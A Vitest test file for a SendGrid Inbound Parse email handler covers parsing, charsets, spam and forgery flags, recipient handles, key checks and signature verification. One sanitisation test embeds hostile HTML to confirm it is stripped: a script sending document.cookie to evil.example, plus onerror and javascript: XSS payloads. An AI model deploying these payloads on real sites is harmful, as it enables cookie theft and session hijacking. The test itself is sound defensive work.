import { createSign, generateKeyPairSync } from "node:crypto";
import { describe, expect, it } from "vitest";
import {
  MAX_INBOUND_TEXT_CHARS,
  parseInboundEmail,
  readInboundParseRequest,
  shopHandleFromRecipient,
  verifyInboundParseRequest,
  verifyInboundParseSignature,
} from "../../../app/server/providers/sendgrid/inbound-parse.server";

const BOUNDARY = "xYzZY"; // the boundary SendGrid uses
const INBOUND_URL = "https://avisa.example/callbacks/sendgrid/inbound";

// A Gmail reply, with the fields SendGrid's Inbound Parse posts.
const HEADERS = [
  "Received: by mx0047p1mdw1.sendgrid.net with SMTP id 6WCVv7KAWn Tue, 03 Jun 2025 04:43:24 +0000 (UTC)",
  "Received: from mail-wm1-f42.google.com (mail-wm1-f42.google.com [209.85.128.42]) by mx0047p1mdw1.sendgrid.net (Postfix)",
  "\twith ESMTPS id 1A2B3C for <reply+casa-bonita@in.avisa.app>; Tue, 03 Jun 2025 04:43:24 +0000 (UTC)",
  "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;",
  "        d=example.com; s=google; t=1748925782;",
  "        h=to:subject:message-id:date:from:in-reply-to:references:mime-version;",
  "        bh=CEFjZXevil93deLhLlkKrNP1ovhZi+nSiz4ZxQzRLT8=; b=JCDAea097NZuAf4chbjqgUOlyH6+G",
  "MIME-Version: 1.0",
  "References: <avisa.01JX4W2K9Q@casabonita.mx>",
  " <CAF=prev.reply@mail.gmail.com>",
  "In-Reply-To: <CAF=prev.reply@mail.gmail.com>",
  "From: =?UTF-8?Q?Luc=C3=ADa_Ram=C3=ADrez?= <lucia@example.com>",
  "Date: Tue, 3 Jun 2025 06:43:01 +0200",
  "Message-Id: <CAF=new.123@mail.gmail.com>",
  "Subject: =?UTF-8?Q?Re:_=C2=BFD=C3=B3nde_est=C3=A1_mi_pedido_#1001=3F_=F0=9F=93=A6?=",
  "To: Casa Bonita <casa-bonita@in.avisa.app>",
  'Content-Type: multipart/mixed; boundary="000000000000a1b2c3"',
  "",
].join("\n");

const TEXT = [
  "Hola, el pedido llegó pero la taza vino rota 😢. ¿Me mandan otra?",
  "",
  "Saludos,",
  "Lucía",
  "",
  "El mar, 3 jun 2025 a las 5:42, Casa Bonita (<hola@casabonita.mx>) escribió:",
  "",
  "> Hola Lucía, tu pedido #1001 ya fue enviado.",
  "",
].join("\n");

const HTML =
  '<div dir="ltr">Hola, el pedido llegó pero la taza vino rota 😢. ¿Me mandan otra?<div><br></div><div>Saludos,</div><div>Lucía</div></div><br>' +
  '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">El mar, 3 jun 2025 a las 5:42, Casa Bonita (&lt;<a href="mailto:hola@casabonita.mx">hola@casabonita.mx</a>&gt;) escribió:<br></div>' +
  '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hola Lucía, tu pedido #1001 ya fue enviado.</blockquote></div>';

type Field = [name: string, value: string | Buffer, file?: { filename: string; type: string }];

const gmailReply = (): Field[] => [
  ["headers", HEADERS],
  ["dkim", "{@example.com : pass}"],
  ["to", "Casa Bonita <casa-bonita@in.avisa.app>"],
  ["cc", '"Ramírez, Diego" <diego@example.com>'],
  ["html", HTML],
  ["from", "Lucía Ramírez <Lucia@Example.com>"],
  ["text", TEXT],
  ["sender_ip", "209.85.128.42"],
  ["spam_report", "Spam detection software, running on the system \"parsley-p1las1-spamassassin\"..."],
  ["envelope", '{"to":["reply+casa-bonita@in.avisa.app"],"from":"lucia@example.com"}'],
  ["attachments", "1"],
  ["subject", "Re: ¿Dónde está mi pedido #1001? 📦"],
  ["spam_score", "0.1"],
  ["attachment-info", '{"attachment1":{"filename":"foto taza.jpg","name":"foto taza.jpg","type":"image/jpeg","content-id":"ii_m1"}}'],
  ["charsets", '{"to":"UTF-8","cc":"UTF-8","html":"UTF-8","subject":"UTF-8","from":"UTF-8","text":"UTF-8"}'],
  ["SPF", "pass"],
  ["attachment1", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), { filename: "foto taza.jpg", type: "image/jpeg" }],
];

function formOf(fields: Field[]): FormData {
  const form = new FormData();
  for (const [name, value, file] of fields) {
    if (file) form.append(name, new File([new Uint8Array(value as Buffer)], file.filename, { type: file.type }));
    else form.append(name, value as string);
  }
  return form;
}

/** The bytes SendGrid posts: multipart/form-data, CRLF, text fields in their own charset. */
function multipartBody(fields: Field[], boundary = BOUNDARY): Buffer {
  const chunks: Buffer[] = [];
  for (const [name, value, file] of fields) {
    const disposition = file ? `form-data; name="${name}"; filename="${file.filename}"` : `form-data; name="${name}"`;
    const headers = [`--${boundary}`, `Content-Disposition: ${disposition}`, ...(file ? [`Content-Type: ${file.type}`] : []), "", ""].join("\r\n");
    chunks.push(Buffer.from(headers, "utf8"), typeof value === "string" ? Buffer.from(value, "utf8") : value, Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

function sendgridRequest(body: Buffer, url = `${INBOUND_URL}?key=0123456789abcdef0123`, headers: Record<string, string> = {}): Request {
  return new Request(url, {
    method: "POST",
    headers: { "content-type": `multipart/form-data; boundary=${BOUNDARY}`, "user-agent": "Sendlib/1.0", ...headers },
    body: new Uint8Array(body),
  });
}

function expectOk<T>(result: { ok: true; value: T } | { ok: false; error: string }): T {
  if (!result.ok) throw new Error(`expected ok, got: ${result.error}`);
  return result.value;
}

const without = (fields: Field[], ...names: string[]) => fields.filter(([name]) => !names.includes(name));
const replacing = (fields: Field[], name: string, value: string): Field[] => [...without(fields, name), [name, value]];

describe("parseInboundEmail", () => {
  it("reads a Gmail reply posted as FormData", () => {
    const email = expectOk(parseInboundEmail(formOf(gmailReply())));
    expect(email).toEqual({
      from: { name: "Lucía Ramírez", email: "lucia@example.com" },
      to: ["reply+casa-bonita@in.avisa.app", "casa-bonita@in.avisa.app"],
      cc: ["diego@example.com"],
      subject: "Re: ¿Dónde está mi pedido #1001? 📦",
      text: TEXT,
      strippedText: "Hola, el pedido llegó pero la taza vino rota 😢. ¿Me mandan otra?\n\nSaludos,\nLucía",
      messageId: "CAF=new.123@mail.gmail.com",
      inReplyTo: "CAF=prev.reply@mail.gmail.com",
      references: ["avisa.01JX4W2K9Q@casabonita.mx", "CAF=prev.reply@mail.gmail.com"],
      attachments: 1,
      attachmentNames: ["foto taza.jpg"],
      spamFlag: false,
      spamReasons: [],
      autoReply: false,
      truncated: false,
    });
  });

  it("reads the same reply from the raw multipart body SendGrid posts (UTF-8 subject and body)", async () => {
    const request = sendgridRequest(multipartBody(gmailReply()));
    const { form, rawBody } = expectOk(await readInboundParseRequest(request));
    expect(rawBody.subarray(0, 9).toString()).toBe(`--${BOUNDARY}\r\n`);
    const email = expectOk(parseInboundEmail(form));
    expect(email.subject).toBe("Re: ¿Dónde está mi pedido #1001? 📦");
    expect(email.from).toEqual({ name: "Lucía Ramírez", email: "lucia@example.com" });
    expect(email.text).toBe(TEXT);
    expect(email.strippedText).toBe("Hola, el pedido llegó pero la taza vino rota 😢. ¿Me mandan otra?\n\nSaludos,\nLucía");
    expect(email.messageId).toBe("CAF=new.123@mail.gmail.com");
    expect(email.attachments).toBe(1);
    const file = form.get("attachment1");
    expect(file).toBeInstanceOf(File);
    expect((file as File).name).toBe("foto taza.jpg");
    expect(new Uint8Array(await (file as File).arrayBuffer())).toEqual(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]));

    // The platform's own parser reads UTF-8 posts the same way.
    const platform = expectOk(parseInboundEmail(await sendgridRequest(multipartBody(gmailReply())).formData()));
    expect(platform).toEqual(email);
  });

  it("decodes text in the charset SendGrid names (ISO-8859-1 from an old Outlook)", async () => {
    const latin1 = "Olá, não recebi a encomenda nº 1001. Está tudo bem?";
    const fields: Field[] = [
      ["from", "Ana Souza <ana@example.com.br>"],
      ["to", "loja-do-joao@in.avisa.app"],
      ["subject", "Encomenda nº 1001"],
      ["text", Buffer.from(latin1, "latin1")],
      ["charsets", '{"to":"UTF-8","from":"UTF-8","subject":"UTF-8","text":"iso-8859-1"}'],
      ["envelope", '{"to":["loja-do-joao@in.avisa.app"],"from":"ana@example.com.br"}'],
      ["SPF", "pass"],
    ];
    const email = expectOk(parseInboundEmail(expectOk(await readInboundParseRequest(sendgridRequest(multipartBody(fields)))).form));
    expect(email.text).toBe(latin1);
    // What request.formData() makes of it: the reason readInboundParseRequest exists.
    expect((await sendgridRequest(multipartBody(fields)).formData()).get("text")).toContain("\ufffd");
  });

  it("explains a post without 'from'", () => {
    const result = parseInboundEmail(formOf(without(gmailReply(), "from")));
    expect(result).toEqual({ ok: false, error: "The post has no 'from' field: is this URL configured as a SendGrid Inbound Parse destination?" });
    expect(parseInboundEmail(new FormData())).toMatchObject({ ok: false, error: expect.stringContaining("no 'from' field") });
  });

  it("falls back to the envelope sender when the From header has no usable address", () => {
    const email = expectOk(parseInboundEmail(formOf(replacing(gmailReply(), "from", "Lucía (sin correo)"))));
    expect(email.from).toEqual({ name: null, email: "lucia@example.com" });
    const neither = parseInboundEmail(formOf(replacing(replacing(gmailReply(), "from", "Lucía"), "envelope", "{}")));
    expect(neither).toMatchObject({ ok: false, error: expect.stringContaining("no email address") });
  });

  it("converts an html-only email to text and strips its quote", () => {
    const email = expectOk(parseInboundEmail(formOf(without(gmailReply(), "text"))));
    expect(email.text).toContain("Hola, el pedido llegó pero la taza vino rota 😢. ¿Me mandan otra?\n\nSaludos,\nLucía");
    expect(email.text).toContain("> Hola Lucía, tu pedido #1001 ya fue enviado.");
    expect(email.strippedText).toBe("Hola, el pedido llegó pero la taza vino rota 😢. ¿Me mandan otra?\n\nSaludos,\nLucía");
  });

  it("keeps hostile html out of the text", () => {
    const hostile =
      "<html><head><title>phish</title><style>body{display:none}</style><script>fetch('https://evil.example/?c='+document.cookie)</script></head>" +
      '<body><p>Quiero devolver el pedido #1001</p><img src="x" onerror="alert(document.domain)">' +
      "<scr<script>ipt>alert(1)</script><svg><script>alert(2)</script></svg><iframe src=\"https://evil.example\">fallback</iframe>" +
      '<a href="javascript:alert(3)">Ver pedido</a><!-- <script>alert(4)</script> --></body></html>';
    const email = expectOk(parseInboundEmail(formOf([...without(gmailReply(), "text", "html"), ["html", hostile]])));
    expect(email.text).toContain("Quiero devolver el pedido #1001");
    expect(email.text).toContain("Ver pedido");
    for (const leaked of ["fetch", "cookie", "evil", "alert(2)", "alert(3)", "alert(4)", "onerror", "phish", "display:none", "fallback", "javascript:"]) {
      expect(email.text).not.toContain(leaked);
    }
  });

  it("flags forged senders: SPF fail with no DKIM pass from the From domain", () => {
    const forged = parseInboundEmail(formOf(replacing(replacing(gmailReply(), "SPF", "fail"), "dkim", "none")));
    // A DKIM pass from some other domain (the mailing service's) does not vouch for the sender.
    const otherDkim = parseInboundEmail(formOf(replacing(replacing(gmailReply(), "SPF", "fail"), "dkim", "{@sendgrid.info : pass}")));
    expect(expectOk(otherDkim).spamFlag).toBe(true);
    expect(expectOk(forged)).toMatchObject({ spamFlag: true, spamReasons: [expect.stringContaining("SPF fail")] });
    // Forwarded mail fails SPF, but the DKIM signature of the sender's domain still vouches for it.
    expect(expectOk(parseInboundEmail(formOf(replacing(gmailReply(), "SPF", "fail")))).spamFlag).toBe(false);
    expect(expectOk(parseInboundEmail(formOf(replacing(gmailReply(), "SPF", "softfail")))).spamFlag).toBe(false);
  });

  it("flags what SpamAssassin scores as spam", () => {
    const email = expectOk(parseInboundEmail(formOf(replacing(gmailReply(), "spam_score", "7.5"))));
    expect(email.spamFlag).toBe(true);
    expect(email.spamReasons).toEqual([expect.stringContaining("7.5")]);
  });

  it("recognises automatic replies and bounces", () => {
    const outOfOffice = replacing(gmailReply(), "headers", `${HEADERS}Auto-Submitted: auto-replied\n`);
    expect(expectOk(parseInboundEmail(formOf(outOfOffice))).autoReply).toBe(true);
    const bounce = replacing(gmailReply(), "from", "Mail Delivery Subsystem <MAILER-DAEMON@googlemail.com>");
    expect(expectOk(parseInboundEmail(formOf(bounce))).autoReply).toBe(true);
    const notAuto = replacing(gmailReply(), "headers", `${HEADERS}Auto-Submitted: no\n`);
    expect(expectOk(parseInboundEmail(formOf(notAuto))).autoReply).toBe(false);
  });

  it("takes the subject from the raw headers when the field is missing", () => {
    expect(expectOk(parseInboundEmail(formOf(without(gmailReply(), "subject")))).subject).toBe("Re: ¿Dónde está mi pedido #1001? 📦");
  });

  it("explains SendGrid's raw MIME mode", () => {
    const raw = parseInboundEmail(formOf([...without(gmailReply(), "text", "html"), ["email", "MIME-Version: 1.0\r\n..."]]));
    expect(raw).toMatchObject({ ok: false, error: expect.stringContaining("POST the raw, full MIME message") });
  });

  it("cuts very long bodies", () => {
    const email = expectOk(parseInboundEmail(formOf(replacing(gmailReply(), "text", "a".repeat(MAX_INBOUND_TEXT_CHARS + 10)))));
    expect(email.text).toHaveLength(MAX_INBOUND_TEXT_CHARS);
    expect(email.truncated).toBe(true);
  });
});

describe("readInboundParseRequest", () => {
  it("refuses what is not a multipart form post", async () => {
    const json = new Request(INBOUND_URL, { method: "POST", headers: { "content-type": "application/json" }, body: "[]" });
    expect(await readInboundParseRequest(json)).toMatchObject({ ok: false, error: expect.stringContaining("Inbound Parse destination") });
  });

  it("refuses posts over the size limit", async () => {
    const result = await readInboundParseRequest(sendgridRequest(multipartBody(gmailReply())), { maxBytes: 1024 });
    expect(result).toMatchObject({ ok: false, error: expect.stringContaining("at most") });
  });

  it("refuses a post cut off before its closing boundary", async () => {
    const body = multipartBody(gmailReply());
    const result = await readInboundParseRequest(sendgridRequest(body.subarray(0, body.length - 40)));
    expect(result).toMatchObject({ ok: false, error: expect.stringContaining("cut off") });
  });

  it("tolerates bare LF line ends and empty fields", async () => {
    const body = Buffer.from(
      `--${BOUNDARY}\nContent-Disposition: form-data; name="from"\n\nsam@example.com\n--${BOUNDARY}\nContent-Disposition: form-data; name="cc"\n\n\n--${BOUNDARY}\nContent-Disposition: form-data; name="text"\n\nHi!\n--${BOUNDARY}--\n`,
    );
    const email = expectOk(parseInboundEmail(expectOk(await readInboundParseRequest(sendgridRequest(body))).form));
    expect(email).toMatchObject({ from: { name: null, email: "sam@example.com" }, cc: [], text: "Hi!" });
  });
});

describe("shopHandleFromRecipient", () => {
  it.each([
    ["casa-bonita@in.avisa.app", "casa-bonita"],
    ["reply+casa-bonita@in.avisa.app", "casa-bonita"],
    ["Casa Bonita <Reply+Casa-Bonita@IN.Avisa.app>", "casa-bonita"],
  ])("%j → %j", (address, handle) => {
    expect(shopHandleFromRecipient(address, "in.avisa.app")).toBe(handle);
  });

  it("accepts the inbound domain written with capitals or a trailing dot", () => {
    expect(shopHandleFromRecipient("loja123@in.avisa.app", " In.Avisa.App. ")).toBe("loja123");
  });

  it.each([
    "casa-bonita@casabonita.mx",
    "casa-bonita@sub.in.avisa.app",
    "casa-bonita@avisa.app",
    "reply+@in.avisa.app",
    "reply+casa-bonita+x@in.avisa.app",
    "casa_bonita@in.avisa.app",
    "-casa@in.avisa.app",
    "casa-bonita.myshopify.com@in.avisa.app",
    "not an address",
  ])("%j → null", (address) => {
    expect(shopHandleFromRecipient(address, "in.avisa.app")).toBeNull();
  });

  it("needs an inbound domain", () => {
    expect(shopHandleFromRecipient("casa-bonita@in.avisa.app", " ")).toBeNull();
  });
});

describe("verifyInboundParseRequest", () => {
  const key = "s3cr3t-0123456789abcdef";

  it("accepts the destination URL's key", () => {
    expect(verifyInboundParseRequest(new URL(`${INBOUND_URL}?key=${key}`), key)).toEqual({ ok: true, value: true });
  });

  it("accepts either key while one is replaced", () => {
    expect(verifyInboundParseRequest(new URL(`${INBOUND_URL}?key=${key}`), ["new-key-0123456789abcdef", key]).ok).toBe(true);
  });

  it("refuses a wrong, missing or unconfigured key, saying what to fix", () => {
    expect(verifyInboundParseRequest(new URL(`${INBOUND_URL}?key=${key}x`), key)).toMatchObject({ ok: false, error: expect.stringContaining("does not match") });
    expect(verifyInboundParseRequest(new URL(`${INBOUND_URL}?key=${key.slice(0, 4)}`), key).ok).toBe(false);
    expect(verifyInboundParseRequest(new URL(INBOUND_URL), key)).toMatchObject({ ok: false, error: expect.stringContaining("no ?key=") });
    expect(verifyInboundParseRequest(new URL(`${INBOUND_URL}?key=`), "")).toMatchObject({ ok: false, error: expect.stringContaining("No Inbound Parse key") });
    expect(verifyInboundParseRequest(new URL(`${INBOUND_URL}?key=short`), "short")).toMatchObject({ ok: false, error: expect.stringContaining("shorter than") });
  });
});

describe("verifyInboundParseSignature (parse settings with a signing security policy)", () => {
  const { publicKey, privateKey } = generateKeyPairSync("ec", { namedCurve: "prime256v1" });
  const publicKeyBase64 = publicKey.export({ format: "der", type: "spki" }).toString("base64");
  const body = multipartBody(gmailReply());
  const timestamp = "1748925804";
  const sign = (payload: Buffer) => createSign("sha256").update(Buffer.concat([Buffer.from(timestamp), payload])).sign(privateKey).toString("base64");
  const headersWith = (signature: string) =>
    new Headers({ "X-Twilio-Email-Event-Webhook-Signature": signature, "X-Twilio-Email-Event-Webhook-Timestamp": timestamp });

  it("accepts SendGrid's signature over timestamp + raw body", () => {
    expect(verifyInboundParseSignature({ headers: headersWith(sign(body)), rawBody: body, publicKey: publicKeyBase64 })).toEqual({ ok: true, value: true });
  });

  it("refuses a changed body, an old timestamp and unsigned posts", () => {
    const tampered = Buffer.from(body.toString("utf8").replace("la taza vino rota", "envíen a otra dirección"), "utf8");
    expect(verifyInboundParseSignature({ headers: headersWith(sign(body)), rawBody: tampered, publicKey: publicKeyBase64 }).ok).toBe(false);
    const late = new Date((Number(timestamp) + 3600) * 1000);
    expect(verifyInboundParseSignature({ headers: headersWith(sign(body)), rawBody: body, publicKey: publicKeyBase64, now: late, toleranceSeconds: 300 }).ok).toBe(false);
    expect(verifyInboundParseSignature({ headers: new Headers(), rawBody: body, publicKey: publicKeyBase64 })).toMatchObject({
      ok: false, error: expect.stringContaining("not signed"),
    });
  });
});
